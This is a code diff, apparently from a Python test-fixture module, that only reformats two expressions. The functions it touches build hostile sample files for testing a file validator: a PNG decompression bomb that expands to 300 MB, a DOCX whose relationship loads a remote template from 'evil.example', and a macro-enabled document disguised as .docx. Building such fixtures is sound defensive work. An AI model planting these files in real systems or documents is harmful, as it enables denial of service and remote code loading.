@@ -58,7 +58,12 @@ def webp_claiming():
 def text_bomb_png():
     """A small picture whose compressed text unfolds to 300 megabytes."""
     text = b"Comment\0\0" + zlib.compress(bytes(300 * 1024 * 1024), 9)
-    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
+    chunk = (
+        struct.pack(">I", len(text))
+        + b"zTXt"
+        + text
+        + struct.pack(">I", zlib.crc32(b"zTXt" + text))
+    )
     good = picture("PNG")
     return good[:33] + chunk + good[33:]
 
@@ -146,11 +151,11 @@ def hostile_documents():
         b'<Relationship Id="rId1" Type="http://x/attachedTemplate" TargetMode="External" '
         b'Target="http://evil.example/t.dotm"/></Relationships>'
     )
-    vba = dict(
-        more_types={"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
-        more_rels=(("rId9", _VBA, "vbaProject.bin", ""),),
-        more={"word/vbaProject.bin": b"Attribute VB_Name = AutoOpen"},
-    )
+    vba = {
+        "more_types": {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
+        "more_rels": (("rId9", _VBA, "vbaProject.bin", ""),),
+        "more": {"word/vbaProject.bin": b"Attribute VB_Name = AutoOpen"},
+    }
     oletype = "application/vnd.openxmlformats-officedocument.oleObject"
     return {
         "docm-renamed.docx": docx(main=_MACRO_MAIN, **vba),
